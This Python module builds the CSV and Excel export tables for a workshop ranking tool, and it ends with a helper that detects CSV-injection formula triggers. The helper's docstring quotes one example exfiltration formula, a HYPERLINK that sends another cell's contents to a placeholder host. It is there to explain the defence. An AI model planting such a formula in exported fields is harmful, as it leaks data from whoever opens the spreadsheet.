"""The tables of an export, shared by the CSV files, the workbook and the report.

Each table is built from `ExportData` alone and is twice headed: keys for machines (CSV),
localized headers for people (Excel). Rows are sorted by content, never by casting or
storage order, and a role group appears only as `ExportData.breakdown` shows it (k-safe).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Final

from core.breakdown import Role, points_share
from core.export_data import OTHER_GROUP, ExportData
from core.i18n import t
from core.tally.profile import CountingId
from core.tally.registry import COUNTING_METHODS

Cell = str | int | float | bool


@dataclass(frozen=True)
class Table:
    """A table twice headed: `keys` for machines (CSV), `headers` for people (Excel)."""

    keys: tuple[str, ...]
    headers: tuple[str, ...]
    rows: tuple[tuple[Cell, ...], ...]


def header_text(name: str, lang: str, **params: Any) -> str:
    return t(f"export.header.{name}", lang, **params)


def counting_name(counting: CountingId, lang: str) -> str:
    return t(COUNTING_METHODS[counting].name_key, lang)


def rankings_table(data: ExportData, lang: str) -> Table:
    """One row per ballot, sorted by content: rank n's method key, then its label."""
    size = data.workshop.ballot_size
    labels = data.labels(lang)
    keys: list[str] = []
    headers: list[str] = []
    for n in range(1, size + 1):
        keys += [f"rank_{n}", f"rank_{n}_label"]
        headers += [header_text("rank_n_key", lang, n=n), header_text("rank_n", lang, n=n)]
    rows = []
    for ranking in data.rankings:
        row: list[Cell] = []
        for n in range(size):
            method = ranking[n] if n < len(ranking) else ""
            row += [method, labels.get(method, method) if method else ""]
        rows.append(tuple(row))
    return Table(tuple(keys), tuple(headers), tuple(rows))


def tally_table(data: ExportData, lang: str) -> Table:
    """Every counting method x every method: rank, score, tied."""
    labels = data.labels(lang)
    rows = tuple(
        (
            counting,
            counting_name(counting, lang),
            row.rank,
            row.method,
            labels[row.method],
            row.score,
            row.is_tied,
        )
        for counting, result in data.tallies.items()
        for row in result.rows()
    )
    return Table(
        ("counting", "counting_name", "rank", "method", "method_label", "score", "tied"),
        tuple(
            header_text(n, lang)
            for n in ("counting_key", "counting", "rank", "method_key", "method", "score", "tied")
        ),
        rows,
    )


def shares_table(data: ExportData, lang: str) -> Table:
    """Per method, in the default counting's order: points, shares, average ranked score."""
    labels = data.labels(lang)
    names = (
        "method",
        "method_label",
        "points",
        "points_pct",
        "first_choices",
        "first_pct",
        "chosen",
        "chosen_pct",
        "average_score",
    )
    rows = tuple(
        (
            s.method,
            labels[s.method],
            s.points,
            s.points_pct,
            s.first_choices,
            s.first_pct,
            s.chosen,
            s.chosen_pct,
            s.average_score,
        )
        for s in data.shares
    )
    headers = ("method_key", "method", *names[2:])
    return Table(
        names, tuple(header_text(n, lang, k=data.workshop.ballot_size) for n in headers), rows
    )


def head_to_head_table(data: ExportData, lang: str) -> Table:
    """Every pair of methods once (the better-placed one first): ballots preferring each."""
    labels = data.labels(lang)
    pw = data.head_to_head
    order = data.default_result.order
    rows = []
    for i, a in enumerate(order):
        for b in order[i + 1 :]:
            ia, ib = pw.methods.index(a), pw.methods.index(b)
            rows.append(
                (a, labels[a], b, labels[b], pw.prefer[ia][ib], pw.prefer[ib][ia], pw.margin(a, b))
            )
    names = ("method_a", "method_a_label", "method_b", "method_b_label", "a_over_b", "b_over_a")
    keys = (*names, "margin")
    return Table(keys, tuple(header_text(n, lang) for n in keys), tuple(rows))


def notes_table(data: ExportData, lang: str) -> Table:
    """Notes by question, theme, dots (most first), text; hidden ones flagged, not dropped."""
    rows = tuple(
        (n.question + 1, q.text.get(lang), n.text, n.theme or "", n.dots, n.is_hidden)
        for q in data.questions
        for n in q.notes
    )
    return Table(
        ("question", "question_text", "note", "theme", "dots", "hidden"),
        tuple(
            header_text(n, lang)
            for n in ("question_no", "question", "note", "theme", "dots", "hidden")
        ),
        rows,
    )


def ballots_long_table(data: ExportData, lang: str) -> Table:
    """Tidy ballots: one row per opened ballot x rank. `ballot` numbers the ballots in
    their sorted (content) order, so it says nothing about when any ballot was cast."""
    labels = data.labels(lang)
    rows = tuple(
        (number, rank, method, labels.get(method, method), len(ranking))
        for number, ranking in enumerate(data.rankings, start=1)
        for rank, method in enumerate(ranking, start=1)
    )
    keys = ("ballot", "rank", "method", "method_label", "ballot_length")
    headers = ("ballot_no", "rank", "method_key", "method", "ballot_length")
    return Table(keys, tuple(header_text(n, lang) for n in headers), rows)


def themes_table(data: ExportData, lang: str) -> Table:
    """Per question and theme (facilitator order): its visible notes and their dots."""
    rows = tuple(
        (
            q.position + 1,
            q.text.get(lang),
            theme,
            sum(1 for n in q.notes if n.theme == theme and not n.is_hidden),
            sum(n.dots for n in q.notes if n.theme == theme and not n.is_hidden),
        )
        for q in data.questions
        for theme in q.themes
    )
    keys = ("question", "question_text", "theme", "notes", "dots")
    headers = ("question_no", "question", "theme", "notes", "dots")
    return Table(keys, tuple(header_text(n, lang) for n in headers), rows)


def summary_points_table(data: ExportData, lang: str) -> Table:
    """Per question, its summary points in the facilitator's order."""
    rows = tuple(
        (q.position + 1, q.text.get(lang), number, point)
        for q in data.questions
        for number, point in enumerate(q.summary_points, start=1)
    )
    keys = ("question", "question_text", "point", "text")
    headers = ("question_no", "question", "point_no", "text")
    return Table(keys, tuple(header_text(n, lang) for n in headers), rows)


def receipts_table(data: ExportData, lang: str) -> Table:
    return Table(("receipt",), (header_text("receipt", lang),), tuple((r,) for r in data.receipts))


def group_name(role: Role | None, data: ExportData, lang: str) -> str:
    if role is None:
        return t("export.participation.other_group", lang)
    return data.role_labels(lang).get(role, role)


def breakdown_table(data: ExportData, lang: str) -> Table:
    """The k-safe breakdown (default counting): group, its ballots, rank, method, score,
    the method's share of the group's points and its average ranked score in the group."""
    labels = data.labels(lang)
    rows = tuple(
        (
            g.role or OTHER_GROUP,
            group_name(g.role, data, lang),
            g.ballot_count,
            row.rank,
            row.method,
            labels[row.method],
            row.score,
            points_share(g.result, row.method),
            round(row.score / g.ballot_count, 2),
            row.is_tied,
        )
        for g in data.breakdown.groups
        for row in g.result.rows()
    )
    keys = (
        "group",
        "group_label",
        "ballots",
        "rank",
        "method",
        "method_label",
        "score",
        "points_pct",
        "average_score",
        "tied",
    )
    headers = ("group_key", "group", *keys[2:4], "method_key", "method", *keys[6:])
    k = data.workshop.ballot_size
    return Table(keys, tuple(header_text(n, lang, k=k) for n in headers), rows)


def role_grid_table(data: ExportData, lang: str) -> Table:
    """Methods (rows, the room's order) x shown groups (columns): each method's share (%)
    of the group's points, with the whole room last for comparison."""
    labels = data.labels(lang)
    groups = data.breakdown.groups
    room = {s.method: s.points_pct for s in data.shares}
    rows: tuple[tuple[Cell, ...], ...] = tuple(
        (m, labels[m], *(points_share(g.result, m) for g in groups), room[m])
        for m in data.default_result.order
    )
    keys = ("method", "method_label", *(g.role or OTHER_GROUP for g in groups), "room")
    headers = (
        header_text("method_key", lang),
        header_text("method", lang),
        *(
            t(
                "export.roles.group_column",
                lang,
                group=group_name(g.role, data, lang),
                n=g.ballot_count,
            )
            for g in groups
        ),
        t("export.roles.room_column", lang, n=data.counts.ballots),
    )
    return Table(keys, headers, rows)


FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
(OWASP "CSV injection"): `=HYPERLINK("https://x/?leak="&A1, "…")` in an anonymous note
would send another cell's contents out when clicked."""


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would treat `text` as a formula rather than as text."""
    return text.startswith(FORMULA_TRIGGERS)
